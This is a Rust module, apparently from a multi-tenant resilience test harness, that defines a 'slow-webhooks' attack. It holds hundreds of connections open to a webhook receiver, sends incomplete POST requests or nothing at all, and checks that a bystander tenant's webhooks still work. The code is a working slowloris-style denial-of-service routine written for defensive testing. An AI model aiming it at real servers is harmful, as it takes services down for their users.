//! Connections to the port of webhooks over which nothing is said, and webhooks of a tenant whose content does not come.

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::Result;
use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::webhook;
use crate::stage::{Limits, Stage};
use crate::{Attack, Budget};

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "slow-webhooks",
    about: "webhooks whose content does not come, and connections over which nothing is said",
    budget: Budget::USUAL,
    limits: Limits::NONE,
    play: |stage| Box::pin(play(stage)),
};

/// How often it is looked which connections have ended, to make others in their place.
const RENEWAL: Duration = Duration::from_millis(200);

async fn play(stage: &Stage) -> Result<()> {
    let tenant = stage.people().tenant;
    let of_bystander = webhook::of_bystander(stage).await?;
    let resources = json!([{"kind": "GitRepository", "name": "*", "matchLabels": {"nobody": "has"}}]);
    let path = webhook::receiver(stage, &tenant, "tenant", "slow", json!({"resources": resources})).await?;
    let (address, is_over) = (webhook::address(stage)?, AtomicBool::new(false));
    let head = format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-length: 2000000\r\n\r\n{{");
    let attacking = async {
        let (began, time) = (Instant::now(), Duration::from_secs(stage.pick(6, 60)));
        let mut peers = Vec::new();
        while began.elapsed() < time {
            peers.retain(is_open);
            for number in peers.len()..stage.pick(300, 600) {
                let Ok(mut peer) = TcpStream::connect(&address).await else { continue };
                // One in three says nothing at all.
                if number % 3 != 0 && peer.write_all(head.as_bytes()).await.is_err() {
                    continue;
                }
                peers.push(peer);
            }
            tokio::time::sleep(RENEWAL).await;
        }
        is_over.store(true, Ordering::Relaxed);
    };
    let ((), went) = tokio::join!(attacking, webhook::go_on(&address, &of_bystander, &is_over));
    went
}

fn is_open(peer: &TcpStream) -> bool {
    peer.try_read(&mut [0; 64]).is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock)
}
